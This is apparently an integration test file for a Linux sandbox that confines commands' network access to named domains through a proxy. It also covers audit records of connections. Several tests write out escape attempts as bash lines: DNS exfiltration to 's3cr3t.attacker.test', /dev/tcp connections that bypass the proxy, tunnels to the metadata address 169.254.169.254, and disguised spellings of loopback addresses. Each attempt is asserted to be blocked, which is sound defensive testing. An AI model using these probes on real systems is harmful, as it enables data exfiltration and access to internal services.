//! Network by domain in the native sandbox: what is named is reached, and nothing else by any other way. Each
//! attempt is shown to succeed without the sandbox, on loopback or in a network of the test's own.
#![cfg(all(target_os = "linux", feature = "native"))]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "helpers of tests fail by panicking"
)]

use codegenie_exec::proxy::{Resolve, Resolving};
use codegenie_exec::{
    DangerousNoSandbox, DomainRule, Layer, LayerStatus, NativeSandbox, RunOutput, Sandbox, SandboxPolicy,
    SandboxRequest,
};
use std::collections::BTreeMap;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{IpAddr, TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Names that lead to these addresses, and the names that were asked for.
#[derive(Clone, Debug, Default)]
struct Names {
    known: Arc<BTreeMap<String, IpAddr>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Names {
    fn of(names: &[(&str, &str)]) -> Self {
        let known = names.iter().map(|(name, to)| ((*name).to_owned(), to.parse().unwrap())).collect();
        Self { known: Arc::new(known), asked: Arc::default() }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

impl Resolve for Names {
    fn resolve<'a>(&'a self, name: &'a str) -> Resolving<'a> {
        Box::pin(async move {
            self.asked.lock().unwrap().push(name.to_owned());
            let address = self.known.get(name).copied();
            address.map(|address| vec![address]).ok_or_else(|| io::ErrorKind::NotFound.into())
        })
    }
}

/// A server on loopback that answers each request with `hello` and counts what came.
struct Server {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn on(address: &str) -> Self {
        let listener = TcpListener::bind(address).unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(Vec::new()));
        let all = Arc::clone(&heard);
        std::thread::spawn(move || {
            for client in listener.incoming() {
                let Ok(mut client) = client else { return };
                let all = Arc::clone(&all);
                std::thread::spawn(move || answer(&mut client, &all));
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> usize {
        self.heard.lock().unwrap().len()
    }

    /// Waits until so many have come: a client that says nothing may be gone before it is taken.
    fn wait_for(&self, clients: usize) {
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        while self.heard() < clients && std::time::Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(5));
        }
        assert_eq!(self.heard(), clients);
    }
}

fn answer(client: &mut TcpStream, heard: &Mutex<Vec<String>>) {
    let index = {
        let mut heard = heard.lock().unwrap();
        heard.push(String::new());
        heard.len() - 1
    };
    let mut buffer = [0; 4096];
    while let Ok(read @ 1..) = client.read(&mut buffer) {
        let whole = {
            let text = &mut heard.lock().unwrap()[index];
            text.push_str(&String::from_utf8_lossy(&buffer[..read]));
            text.contains("\r\n\r\n")
        };
        if whole {
            let _ =
                client.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n");
            return;
        }
    }
}

/// A workspace, and a sandbox in which names lead where the test says.
struct World {
    workspace: tempfile::TempDir,
    names: Names,
}

impl World {
    fn new(names: &[(&str, &str)]) -> Self {
        Self { workspace: tempfile::tempdir().unwrap(), names: Names::of(names) }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.workspace.path().join(name)
    }

    fn policy<T: Into<DomainRule>>(&self, rules: impl IntoIterator<Item = T>) -> SandboxPolicy {
        SandboxPolicy::workspace_write(self.workspace.path()).timeout(Duration::from_secs(100)).domains(rules)
    }

    fn sandbox(&self) -> NativeSandbox {
        NativeSandbox::new().unwrap().resolver(self.names.clone())
    }

    async fn run(&self, policy: SandboxPolicy, script: &str) -> RunOutput {
        let request = SandboxRequest::new("bash", policy).arg("-c").arg(script);
        self.sandbox().run(&request).await.unwrap()
    }
}

/// A rule for a name that the test binds to loopback.
fn private(name: &str, port: u16) -> DomainRule {
    DomainRule::new(format!("{name}:{port}")).dangerous_private_addresses()
}

async fn unconfined(script: &str) -> RunOutput {
    let policy = SandboxPolicy::default().timeout(Duration::from_secs(100));
    let request = SandboxRequest::new("bash", policy).arg("-c").arg(script).cwd("/tmp");
    DangerousNoSandbox.run(&request).await.unwrap()
}

fn text(output: &RunOutput) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// A script that sends the proxy a request and prints the answer; bash alone is enough for it.
fn ask(request: &str) -> String {
    format!("exec 3<>/dev/tcp/127.0.0.1/3128 && printf '{request}' >&3 && cat <&3")
}

fn get(host: &str) -> String {
    ask(&format!("GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"))
}

#[tokio::test]
async fn reaches_the_named_host_and_tells_of_it() {
    let server = Server::on("127.0.0.1:0");
    let world = World::new(&[("allowed.test", "127.0.0.1"), ("other.test", "127.0.0.1")]);
    let port = server.port;
    let policy = world.policy([private("allowed.test", port)]);
    let script = format!("{}; {}", get(&format!("allowed.test:{port}")), get(&format!("other.test:{port}")));
    for (sandbox, launcher) in [(world.sandbox(), "direct"), (world.sandbox().pooled(1), "pool")] {
        sandbox.prewarm(&policy).await.unwrap();
        let request = SandboxRequest::new("bash", policy.clone()).arg("-c").arg(&script);
        let output = sandbox.run(&request).await.unwrap();
        assert_eq!(output.report.launcher, launcher);
        let shown = text(&output);
        assert!(shown.contains("\r\n\r\nhello\n"), "{shown}");
        assert!(shown.contains("403 Forbidden") && shown.contains(&format!("other.test:{port}")), "{shown}");
        assert_eq!(output.refused.len(), 1, "{:?}", output.refused);
        assert_eq!(output.refused[0].layer, Layer::NetworkNamespace);
        assert_eq!(output.refused[0].rule, format!(".domains([\"other.test:{port}\"])"));
        let layer = output.report.layers.iter().find(|l| l.layer == Layer::NetworkNamespace).unwrap();
        assert_eq!(layer.status, LayerStatus::Full);
        assert_eq!(layer.detail, format!("domains only, through a proxy: allowed.test:{port}"));
    }
    assert_eq!(server.heard(), 2);
    assert_eq!(world.names.asked(), ["allowed.test", "allowed.test"], "refused names are not resolved");
}

#[tokio::test]
async fn goes_no_way_but_through_the_proxy() {
    let server = Server::on("127.0.0.1:0");
    let world = World::new(&[("allowed.test", "127.0.0.1")]);
    let port = server.port;
    let direct = format!("export NO_PROXY='*' no_proxy='*'; echo x > /dev/tcp/127.0.0.1/{port}");
    assert!(unconfined(&direct).await.status.reason.is_success());
    server.wait_for(1);
    let policy = world.policy([private("allowed.test", port)]);
    let output = world.run(policy.clone(), &direct).await;
    assert!(!output.status.reason.is_success(), "{}", text(&output));
    assert_eq!(server.heard(), 1);
    // Nor does the witness, under the same policy.
    let report = world.sandbox().enforcement(&policy).await.unwrap();
    let outside: Vec<_> = report.witness.iter().filter(|a| a.layer == Layer::NetworkNamespace).collect();
    assert!(!outside.is_empty() && outside.iter().all(|attempt| attempt.stopped), "{outside:?}");
    // Where nothing is named, there is no proxy either.
    let none = SandboxPolicy::workspace_write(world.workspace.path());
    assert!(!world.run(none, &get("allowed.test")).await.status.reason.is_success());
}

#[tokio::test]
async fn carries_no_secret_out_by_dns() {
    let dns = UdpSocket::bind("127.0.0.1:0").unwrap();
    dns.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let world = World::new(&[("allowed.test", "127.0.0.1")]);
    let port = dns.local_addr().unwrap().port();
    let query = format!("echo s3cr3t.attacker.test > /dev/udp/127.0.0.1/{port}");
    assert!(unconfined(&query).await.status.reason.is_success());
    let mut buffer = [0; 100];
    let (read, _) = dns.recv_from(&mut buffer).unwrap();
    assert!(buffer[..read].starts_with(b"s3cr3t.attacker.test"));

    // A datagram to where a resolver would be, a look-up, and names in requests to the proxy.
    let script = format!(
        "{query}; getent hosts s3cr3t.attacker.test && echo LEAKED; {}; {}; printf 'done'",
        get("s3cr3t.attacker.test"),
        ask("CONNECT s3cr3t.attacker.test:443 HTTP/1.1\\r\\nHost: s3cr3t.attacker.test:443\\r\\n\\r\\n"),
    );
    let output = world.run(world.policy(["allowed.test"]), &script).await;
    let shown = text(&output);
    assert!(shown.ends_with("done") && !shown.contains("LEAKED"), "{shown}");
    assert_eq!(shown.matches("403 Forbidden").count(), 2, "{shown}");
    assert!(world.names.asked().is_empty(), "{:?}", world.names.asked());
    dns.set_nonblocking(true).unwrap();
    assert!(dns.recv_from(&mut buffer).is_err(), "a datagram came out");
}

#[tokio::test]
async fn relays_nowhere_else() {
    let server = Server::on("127.0.0.1:0");
    let world = World::new(&[("allowed.test", "127.0.0.1")]);
    let port = server.port;
    // By port, by address, by another spelling of the address, by a name that leads to loopback without
    // permission, by a second request behind an allowed one.
    let other = Server::on("127.0.0.1:0");
    let tunnel = |target: &str| ask(&format!("CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n"));
    let script = [
        tunnel("allowed.test:22"),
        tunnel(&format!("allowed.test:{}", other.port)),
        tunnel(&format!("127.0.0.1:{port}")),
        tunnel(&format!("[::ffff:127.0.0.1]:{port}")),
        tunnel(&format!("localhost:{port}")),
        tunnel("169.254.169.254:80"),
    ]
    .join("; ");
    let output = world.run(world.policy([private("allowed.test", port)]), &script).await;
    assert_eq!(text(&output).matches("403 Forbidden").count(), 6, "{}", text(&output));
    assert_eq!((server.heard(), other.heard()), (0, 0));

    let plain = world.policy([format!("allowed.test:{port}")]);
    let output = world.run(plain, &tunnel(&format!("allowed.test:{port}"))).await;
    assert!(text(&output).contains("403 Forbidden"), "{}", text(&output));
    assert!(!text(&output).contains("127.0.0.1"), "the command learns no address: {}", text(&output));
    assert!(output.refused[0].why.contains("127.0.0.1, the host itself"), "{}", output.refused[0]);
    assert_eq!(server.heard(), 0);
}

#[tokio::test]
async fn connections_end_with_the_run() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let world = World::new(&[("allowed.test", "127.0.0.1")]);
    let target = format!("allowed.test:{port}");
    let script = ask(&format!("CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n"));
    let request =
        SandboxRequest::new("bash", world.policy([private("allowed.test", port)])).arg("-c").arg(script);
    let mut running = world.sandbox().start(&request).await.unwrap();
    let chunk = tokio::time::timeout(Duration::from_secs(60), running.next_output()).await.unwrap().unwrap();
    assert!(chunk.bytes.starts_with(b"HTTP/1.1 200"));
    let (mut server, _) = listener.accept().unwrap();
    drop(running);
    server.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let ended = tokio::task::spawn_blocking(move || server.read(&mut [0; 10])).await.unwrap();
    match ended {
        Ok(read) => assert_eq!(read, 0),
        Err(error) => assert_eq!(error.kind(), io::ErrorKind::ConnectionReset),
    }
}

#[tokio::test]
#[ignore = "needs curl and python3"]
async fn curl_goes_by_http_connect_and_socks() {
    let server = Server::on("127.0.0.1:0");
    let world = World::new(&[("allowed.test", "127.0.0.1"), ("rebound.test", "127.0.0.1")]);
    let port = server.port;
    let rules = [private("allowed.test", port), DomainRule::new(format!("rebound.test:{port}"))];
    let url = |host: &str| format!("http://{host}:{port}/");
    let ways = [
        ("http", ""),
        ("connect", "--proxytunnel"),
        ("socks5h", "--noproxy '' --proxy $ALL_PROXY"),
        ("socks5h lower-case", "--noproxy '' --proxy $all_proxy"),
    ];
    let curl = |options: &str, host: &str| format!("curl -sS -m 60 {options} {}", url(host));
    // Unconfined, curl reaches the server by its address; so would it by any name that leads there.
    assert!(text(&unconfined(&curl("", "127.0.0.1")).await).contains("hello"));
    let before = server.heard();
    for (way, options) in ways {
        let output = world.run(world.policy(rules.clone()), &curl(options, "allowed.test")).await;
        assert_eq!(text(&output), "hello\n", "{way}");
        for host in ["other.test", "127.0.0.2", "169.254.169.254", "[::1]", "2130706433", "rebound.test"] {
            let output = world.run(world.policy(rules.clone()), &curl(options, host)).await;
            assert!(!text(&output).contains("hello"), "{way} {host}: {}", text(&output));
        }
        let output = world.run(world.policy(rules.clone()), &curl("--noproxy '*'", "127.0.0.1")).await;
        assert!(!output.status.reason.is_success(), "NO_PROXY: {}", text(&output));
    }
    assert_eq!(server.heard() - before, ways.len());
    // The command's own servers are reached directly.
    let own = "python3 -m http.server -b 127.0.0.1 8000 >/dev/null 2>&1 & \
               curl -sS -m 60 --retry 40 --retry-connrefused --retry-delay 1 -o /dev/null -w '%{http_code}' http://localhost:8000/";
    let output = world.run(world.policy(rules), own).await;
    assert!(text(&output).starts_with("200"), "{}", text(&output));
}

/// In a network of its own, where the test may have a metadata service and private addresses.
#[test]
#[ignore = "needs unshare and ip, and the right to make a network namespace"]
fn names_lead_to_no_metadata_private_or_link_local_address() {
    let exe = std::env::current_exe().unwrap();
    let is_root = std::os::unix::fs::MetadataExt::uid(&std::fs::metadata("/proc/self").unwrap()) == 0;
    let flags: &[&str] = if is_root { &["-n"] } else { &["-Un", "--map-current-user", "--keep-caps"] };
    let script = "set -e; ip link set lo up
        ip addr add 169.254.169.254/32 dev lo; ip addr add 10.1.2.3/32 dev lo; ip addr add 169.254.7.7/32 dev lo
        ip addr add 93.184.215.14/32 dev lo
        ip -6 addr add fd00:ec2::254/128 dev lo nodad; ip -6 addr add fd12::7/128 dev lo nodad
        exec \"$0\" --exact helper_in_a_network_of_its_own --nocapture --include-ignored";
    let output = Command::new("unshare")
        .args(flags)
        .args(["bash", "-c", script])
        .arg(exe)
        .env("CODEGENIE_OWN_NETWORK", "1")
        .output()
        .unwrap();
    let shown =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(
        output.status.success() && shown.contains("1 passed") && shown.contains("all were tried"),
        "{shown}"
    );
}

/// Not a test by itself: the test above runs it.
#[tokio::test]
#[ignore = "a helper program of names_lead_to_no_metadata_private_or_link_local_address, which runs it"]
async fn helper_in_a_network_of_its_own() {
    if std::env::var_os("CODEGENIE_OWN_NETWORK").is_none() {
        return;
    }
    for address in ["169.254.169.254", "10.1.2.3", "169.254.7.7", "fd00:ec2::254", "fd12::7", "93.184.215.14"]
    {
        let ip: IpAddr = address.parse().unwrap();
        let server = Server::on(&std::net::SocketAddr::new(ip, 0).to_string());
        let port = server.port;
        assert!(
            unconfined(&format!("echo x > /dev/tcp/{address}/{port}")).await.status.reason.is_success(),
            "{address} is there"
        );
        server.wait_for(1);
        let world = World::new(&[("allowed.test", address)]);
        let script = get(&format!("allowed.test:{port}"));
        // The last one is public elsewhere, and here the host's own.
        let output = world.run(world.policy([format!("allowed.test:{port}")]), &script).await;
        assert!(text(&output).contains("403 Forbidden"), "{address}: {}", text(&output));
        // Permission for private addresses is none for link-local ones and metadata.
        let output = world.run(world.policy([private("allowed.test", port)]), &script).await;
        let permitted = ["10.1.2.3", "fd12::7", "93.184.215.14"].contains(&address);
        assert_eq!(text(&output).contains("hello"), permitted, "{address}: {}", text(&output));
        // Who names the address itself means it.
        let named = std::net::SocketAddr::new(ip, port).to_string();
        let seen_now = server.heard();
        let output = world.run(world.policy([format!("allowed.test:{port}"), named]), &script).await;
        assert!(text(&output).contains("hello"), "{address}: {}", text(&output));
        assert_eq!((seen_now, server.heard()), (1 + usize::from(permitted), 2 + usize::from(permitted)));
        // Directly there is no way at all.
        let direct = format!("echo x > /dev/tcp/{address}/{port}");
        let output = world.run(world.policy([private("allowed.test", port)]), &direct).await;
        assert!(!output.status.reason.is_success(), "{address}");
        assert_eq!(server.heard() - seen_now, 1);
    }
    println!("all were tried");
}

/// An HTTPS server on loopback for a directory, with a certificate of its own authority.
struct Https {
    child: Child,
    port: u16,
}

impl Drop for Https {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

const HTTPS: &str = r#"
import functools, http.server, ssl, sys
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(sys.argv[2] + "/server.pem", sys.argv[2] + "/server.key")
server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
print(server.server_address[1], flush=True)
server.serve_forever()
"#;

fn tool(program: &str, args: &[&str], dir: &Path) -> String {
    let output = Command::new(program)
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap_or_else(|error| panic!("{program}: {error}"));
    assert!(output.status.success(), "{program} {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// Serves `site` under the name `name`; the authority's certificate is `ca.pem` in the workspace.
fn https(world: &World, site: &Path, name: &str) -> Https {
    let secret = site.parent().unwrap();
    let openssl = |args: &[&str]| tool("openssl", args, secret);
    let new = ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2"];
    let authority = ["-subj", "/CN=test authority", "-keyout", "ca.key", "-out", "ca.pem"];
    openssl(&[new.as_slice(), &authority, &["-addext", "keyUsage=critical,keyCertSign,cRLSign"]].concat());
    std::fs::write(
        secret.join("ext"),
        format!("subjectAltName=DNS:{name}\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n"),
    )
    .unwrap();
    openssl(&[
        "req",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-subj",
        &format!("/CN={name}"),
        "-keyout",
        "server.key",
        "-out",
        "server.csr",
    ]);
    openssl(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-days",
        "2",
        "-extfile",
        "ext",
        "-out",
        "server.pem",
    ]);
    std::fs::copy(secret.join("ca.pem"), world.path("ca.pem")).unwrap();
    let mut child = Command::new("python3")
        .args(["-c", HTTPS])
        .args([site, secret])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.as_mut().unwrap()).read_line(&mut line).unwrap();
    let port = line.trim().parse().expect("the server's port");
    Https { child, port }
}

/// A directory for the server's files, beside which its keys are.
fn site() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("site");
    std::fs::create_dir(&site).unwrap();
    (dir, site)
}

#[tokio::test]
#[ignore = "needs git, python3 and openssl"]
async fn git_clones_over_https() {
    let world = World::new(&[("git.test", "127.0.0.1"), ("other.test", "127.0.0.1")]);
    let (_dir, site) = site();
    tool("git", &["init", "-q", "-b", "main", "tree"], &site);
    std::fs::write(site.join("tree/greeting"), "hello from the repository\n").unwrap();
    let tree = site.join("tree");
    tool("git", &["add", "."], &tree);
    let commit = ["-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-q", "-m", "first"];
    tool("git", &commit, &tree);
    tool("git", &["clone", "-q", "--bare", "tree", "it.git"], &site);
    tool("git", &["update-server-info"], &site.join("it.git"));
    let server = https(&world, &site, "git.test");
    let port = server.port;
    let policy = world
        .policy([private("git.test", port)])
        .env("GIT_SSL_CAINFO", world.path("ca.pem").display().to_string());
    let script = format!(
        "git clone -q https://git.test:{port}/it.git copy && cat copy/greeting; git clone -q https://other.test:{port}/it.git no"
    );
    let output = world.run(policy, &script).await;
    assert!(text(&output).contains("hello from the repository"), "{}", text(&output));
    assert!(text(&output).contains("403") && !world.path("no").exists(), "{}", text(&output));
    assert!(output.refused[0].subject.contains("other.test"));
}

const WHEEL: &str = r#"
import sys, zipfile
with zipfile.ZipFile(sys.argv[1] + "/simple/tinything/tinything-1.0-py3-none-any.whl", "w") as wheel:
    wheel.writestr("tinything.py", "def greet():\n    return 'hello from the package'\n")
    info = "tinything-1.0.dist-info/"
    wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\nName: tinything\nVersion: 1.0\n")
    wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr(info + "RECORD", "tinything.py,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "RECORD,,\n")
"#;

#[tokio::test]
#[ignore = "needs python3 with venv, and openssl"]
async fn pip_installs_from_an_index() {
    let world = World::new(&[("pypi.test", "127.0.0.1")]);
    let (_dir, site) = site();
    std::fs::create_dir_all(site.join("simple/tinything")).unwrap();
    tool("python3", &["-c", WHEEL, site.to_str().unwrap()], &site);
    std::fs::write(
        site.join("simple/tinything/index.html"),
        "<!DOCTYPE html><html><body><a href=\"tinything-1.0-py3-none-any.whl\">tinything</a></body></html>",
    )
    .unwrap();
    let server = https(&world, &site, "pypi.test");
    let port = server.port;
    let script = format!(
        "python3 -m venv v && v/bin/pip install --disable-pip-version-check --no-cache-dir -q --cert ca.pem \
         -i https://pypi.test:{port}/simple tinything && v/bin/python -c 'import tinything; print(tinything.greet())'"
    );
    let output = world.run(world.policy([private("pypi.test", port)]), &script).await;
    assert!(text(&output).contains("hello from the package"), "{} {:?}", text(&output), output.refused);
}

#[tokio::test]
#[ignore = "needs cargo, python3, openssl, tar and sha256sum"]
async fn cargo_builds_with_a_crate_from_a_registry() {
    let world = World::new(&[("crates.test", "127.0.0.1")]);
    let (_dir, site) = site();
    let package = site.join("tinything-1.0.0");
    std::fs::create_dir_all(package.join("src")).unwrap();
    std::fs::write(
        package.join("Cargo.toml"),
        "[package]\nname = \"tinything\"\nversion = \"1.0.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(
        package.join("src/lib.rs"),
        "pub fn greet() -> &'static str { \"hello from the crate\" }\n",
    )
    .unwrap();
    tool("tar", &["czf", "tinything-1.0.0.crate", "tinything-1.0.0"], &site);
    let sum = tool("sha256sum", &["tinything-1.0.0.crate"], &site);
    let sum = sum.split(' ').next().unwrap();
    std::fs::create_dir_all(site.join("index/ti/ny")).unwrap();
    std::fs::write(
        site.join("index/ti/ny/tinything"),
        format!("{{\"name\":\"tinything\",\"vers\":\"1.0.0\",\"deps\":[],\"cksum\":\"{sum}\",\"features\":{{}},\"yanked\":false}}\n"),
    )
    .unwrap();
    let server = https(&world, &site, "crates.test");
    let port = server.port;
    std::fs::write(
        site.join("index/config.json"),
        format!("{{\"dl\":\"https://crates.test:{port}/{{crate}}-{{version}}.crate\"}}"),
    )
    .unwrap();
    std::fs::create_dir_all(world.path("app/src")).unwrap();
    std::fs::create_dir_all(world.path("app/.cargo")).unwrap();
    std::fs::write(world.path("app/src/main.rs"), "fn main() { println!(\"{}\", tinything::greet()); }\n")
        .unwrap();
    std::fs::write(
        world.path("app/Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\ntinything = \"1\"\n",
    )
    .unwrap();
    std::fs::write(
        world.path("app/.cargo/config.toml"),
        format!(
            "[source.crates-io]\nreplace-with = \"local\"\n[source.local]\nregistry = \"sparse+https://crates.test:{port}/index/\"\n"
        ),
    )
    .unwrap();
    let sysroot = PathBuf::from(tool("rustc", &["--print", "sysroot"], &site).trim());
    let mut policy = world
        .policy([private("crates.test", port)])
        .read(&sysroot)
        .env("CARGO_HOME", world.path("cargo").display().to_string())
        .env("CARGO_HTTP_CAINFO", world.path("ca.pem").display().to_string());
    let path = format!("{}:{}", sysroot.join("bin").display(), policy.environment["PATH"]);
    policy = policy.env("PATH", path);
    let output = world.run(policy, "cd app && cargo fetch -q && cargo run -q --offline").await;
    assert!(text(&output).contains("hello from the crate"), "{} {:?}", text(&output), output.refused);
}

/// What the executor records of connections.
#[cfg(feature = "executor")]
mod recorded {
    use super::*;
    use codegenie_exec::{
        AccessControl, Approval, ApprovalRequest, AuditSink, CommandRequest, ExecError, Execution,
        SecureExecutor, approve_with,
    };
    use codegenie_security::{
        AuditError, AuditEvent, AuditResult, AuditValue, EventClass, Policy, Retention, Role, SessionRequest,
        ThreatLevel,
    };

    struct Sink {
        events: Mutex<Vec<AuditEvent>>,
        takes_connections: bool,
    }

    impl AuditSink for Sink {
        fn record(&self, event: &AuditEvent) -> Result<(), AuditError> {
            if event.class == EventClass::NetworkActivity && !self.takes_connections {
                return Err(AuditError::unavailable("the disk is full"));
            }
            self.events.lock().unwrap().push(event.clone());
            Ok(())
        }
        fn retention(&self) -> Retention {
            Retention::Volatile
        }
    }

    async fn execute(
        world: &World,
        policy: SandboxPolicy,
        takes_connections: bool,
        script: &str,
    ) -> (Result<Execution, ExecError>, Vec<AuditEvent>) {
        let sink = Arc::new(Sink { events: Mutex::default(), takes_connections });
        let execution = execute_into(world, policy, Arc::clone(&sink), script).await;
        let events = sink.events.lock().unwrap().clone();
        (execution, events)
    }

    async fn execute_into(
        world: &World,
        policy: SandboxPolicy,
        sink: Arc<Sink>,
        script: &str,
    ) -> Result<Execution, ExecError> {
        let role = Role::new("developer").allow("execute:**");
        let access =
            AccessControl::new(Policy::builder().role(role).user("alice", ["developer"]).build().unwrap());
        let (token, _) = access.open_session(SessionRequest::new("alice").agent("coder")).unwrap();
        let executor = SecureExecutor::builder(world.sandbox(), access, policy)
            .audit(sink)
            .approver(approve_with(|_: &ApprovalRequest| Approval::granted("a test")))
            .build()
            .unwrap();
        executor.execute(&token, &CommandRequest::argv(["bash", "-c", script])).await
    }

    #[tokio::test]
    async fn every_connection_before_it_is_opened_and_every_refusal() {
        let server = Server::on("127.0.0.1:0");
        let world = World::new(&[("allowed.test", "127.0.0.1")]);
        let target = format!("allowed.test:{}", server.port);
        let script = format!("{}; {}", get(&target), get("other.test"));
        let policy = world.policy([private("allowed.test", server.port)]);
        let (execution, events) = execute(&world, policy, true, &script).await;
        let execution = execution.unwrap();
        assert!(text(&execution.output).contains("hello"), "{}", text(&execution.output));
        assert!(events.iter().all(|event| event.operation == Some(execution.operation)));
        let of = |result: AuditResult| {
            let mut found =
                events.iter().filter(|e| e.class == EventClass::NetworkActivity && e.result == result);
            (found.next().unwrap_or_else(|| panic!("{result}: {events:?}")).clone(), found.count())
        };
        let detail = |event: &AuditEvent, name: &str| {
            event.details.iter().find(|(n, _)| n == name).map(|(_, value)| value.clone())
        };
        let (pending, more) = of(AuditResult::Pending);
        assert_eq!(
            (pending.action.as_str(), pending.resource.as_str(), more),
            ("connect", target.as_str(), 0)
        );
        assert_eq!((pending.actor.as_str(), pending.agent.as_deref()), ("alice", Some("coder")));
        let address = format!("127.0.0.1:{}", server.port);
        assert_eq!(detail(&pending, "address"), Some(AuditValue::from(address)));
        assert_eq!(detail(&pending, "rule"), Some(AuditValue::from(target)));
        let (denied, more) = of(AuditResult::Denied);
        assert_eq!(
            (denied.resource.as_str(), denied.threat, more),
            ("other.test:80", ThreatLevel::Medium, 0)
        );
        // The outcome comes last, and holds what was refused.
        let outcome = events.last().unwrap();
        assert_eq!((outcome.class, outcome.result), (EventClass::Command, AuditResult::Success));
        assert!(format!("{:?}", detail(outcome, "refused")).contains("connect to other.test:80"));
    }

    /// The command ends, or its execution is dropped, while its tunnel is open.
    #[tokio::test]
    async fn the_end_of_a_tunnel_that_the_run_cuts_off() {
        for dropped in [false, true] {
            let listener = TcpListener::bind("127.0.0.1:0").unwrap();
            let port = listener.local_addr().unwrap().port();
            let world = World::new(&[("allowed.test", "127.0.0.1")]);
            let target = format!("allowed.test:{port}");
            let more = if dropped { "cat <&3" } else { "true" };
            let script = format!(
                "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n' >&3 \
                 && read -r line <&3 && printf hello >&3 && read -r line <&3 && read -r line <&3 && {more}"
            );
            let (heard, hears) = tokio::sync::oneshot::channel();
            // Holds the connection open until the test is over.
            let serving = std::thread::spawn(move || {
                let (mut server, _) = listener.accept().unwrap();
                let mut hello = [0; 5];
                server.read_exact(&mut hello).unwrap();
                server.write_all(b"answer\n").unwrap();
                heard.send(()).unwrap();
                let _ = server.read(&mut hello);
            });
            let policy = world.policy([private("allowed.test", port)]);
            let sink = Arc::new(Sink { events: Mutex::default(), takes_connections: true });
            {
                let executing = execute_into(&world, policy, Arc::clone(&sink), &script);
                let mut executing = std::pin::pin!(executing);
                if dropped {
                    tokio::select! {
                        _ = &mut executing => panic!("it has not ended"),
                        heard = hears => heard.unwrap(),
                    }
                } else {
                    executing.await.unwrap();
                }
            }
            tokio::task::spawn_blocking(|| serving.join().unwrap()).await.unwrap();
            let events = sink.events.lock().unwrap().clone();
            let closed: Vec<usize> = (0..events.len())
                .filter(|at| {
                    events[*at].class == EventClass::NetworkActivity
                        && events[*at].result == AuditResult::Success
                })
                .collect();
            assert_eq!(closed.len(), 1, "dropped {dropped}: {events:?}");
            let detail = |name: &str| {
                let of = &events[closed[0]].details;
                of.iter().find(|(n, _)| n == name).map(|(_, value)| value.clone())
            };
            assert_eq!(detail("sent_bytes"), Some(AuditValue::from(5u64)), "{events:?}");
            if !dropped {
                assert_eq!(detail("received_bytes"), Some(AuditValue::from(7u64)), "{events:?}");
            }
            // Before the outcome.
            assert_eq!(events.last().unwrap().class, EventClass::Command);
        }
    }

    #[tokio::test]
    async fn what_cannot_be_recorded_is_not_opened() {
        let server = Server::on("127.0.0.1:0");
        let world = World::new(&[("allowed.test", "127.0.0.1")]);
        let script = get(&format!("allowed.test:{}", server.port));
        let policy = || world.policy([private("allowed.test", server.port)]);
        let (execution, _) = execute(&world, policy(), true, &script).await;
        assert!(text(&execution.unwrap().output).contains("hello"));
        let (execution, _) = execute(&world, policy(), false, &script).await;
        let output = execution.unwrap().output;
        assert!(text(&output).contains("403 Forbidden"), "{}", text(&output));
        assert_eq!(output.refused[0].why, "it could not be recorded");
        assert_eq!(server.heard(), 1);
    }
}
